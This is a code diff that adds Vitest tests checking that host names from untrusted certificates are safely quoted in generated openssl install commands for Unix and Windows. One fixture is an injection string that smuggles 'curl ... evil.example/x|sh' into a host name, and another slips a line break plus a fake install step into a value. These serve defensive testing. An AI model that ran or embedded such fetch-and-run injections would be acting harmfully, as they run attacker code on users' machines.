@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { createInstallDocument, serializeInstallText, type InstallFacts } from './install-steps.ts';
 import type { BundleFileRole } from './layout.ts';
@@ -100,5 +101,45 @@ describe('INSTALL text', () => {
     ['private-ca', 'Trusted Root Certification Authorities'],
   ] as const)('clients step for %s trust mentions %j', (trust, text) => {
     expect(render(facts({ trust }), 'en')).toContain(text);
+  });
+
+  // Issue 12 item 2: host names that were never checked (read from a foreign certificate) must stay
+  // single literal arguments even if they reach this layer; line breaks never reach the file.
+  describe('values in commands are quoted for the target shell', () => {
+    const evil = 'mail.example.com;curl -s https://evil.example/x|sh;echo';
+
+    it('Unix: sh reads each check command as openssl with exactly the intended arguments', () => {
+      const doc = createInstallDocument(facts({ os: 'unix', hostNames: [evil] }), 'en');
+      const commands = doc.steps.flatMap((s) => s.commands ?? []).filter((c) => c.startsWith('openssl '));
+      expect(commands).toHaveLength(3);
+      const script = commands.map((c) => `set -- ${c.slice('openssl '.length)}; printf '%s\\0' "$@"; printf '\\n'`).join('\n');
+      const argv = execFileSync('sh', ['-c', script], { encoding: 'utf8', timeout: 10_000 }).split('\n').slice(0, -1).map((l) => l.split('\0').slice(0, -1));
+      expect(argv).toEqual([
+        ['s_client', '-connect', `${evil}:465`, '-servername', evil, '-CAfile', 'clients/ca.pem'],
+        ['s_client', '-connect', `${evil}:25`, '-starttls', 'smtp', '-servername', evil, '-CAfile', 'clients/ca.pem'],
+        ['s_client', '-connect', `${evil}:995`, '-CAfile', 'clients/ca.pem'],
+      ]);
+    });
+
+    it('Windows: the value is one double-quoted argument', () => {
+      const text = render(facts({ os: 'windows', hostNames: [evil] }), 'en');
+      expect(text).toContain(`openssl s_client -connect "${evil}:465" -servername "${evil}" -CAfile clients\\ca.pem`);
+    });
+
+    it('IPv6 is bracketed and sent without SNI; a wildcard is skipped for a concrete name', () => {
+      const v6 = render(facts({ os: 'unix', hostNames: ['2001:db8::1'] }), 'en');
+      expect(v6).toContain("openssl s_client -connect '[2001:db8::1]:465' -CAfile clients/ca.pem");
+      const wild = render(facts({ os: 'unix', hostNames: ['*.example.com', 'mail.example.com'] }), 'en');
+      expect(wild).toContain('openssl s_client -connect mail.example.com:465 -servername mail.example.com');
+    });
+
+    it.each(['windows', 'unix'] as const)('%s: a host name with CR/LF is refused in a command, shown inert in prose', (os) => {
+      const f = facts({ os, hostNames: ['mail.example.com\r\n7. run evil'] });
+      expect(() => createInstallDocument(f, 'ja')).toThrow(expect.objectContaining({ code: 'BUNDLE_COMMAND_VALUE_INVALID' }));
+      const doc = createInstallDocument({ ...f, files: f.files.filter((x) => x.role !== 'server-cert') }, 'ja');
+      const text = serializeInstallText(doc, os);
+      expect(text).toContain('mail.example.com<U+000D><U+000A>7. run evil');
+      expect(text).not.toMatch(/^7\. run/m);
+    });
   });
 });
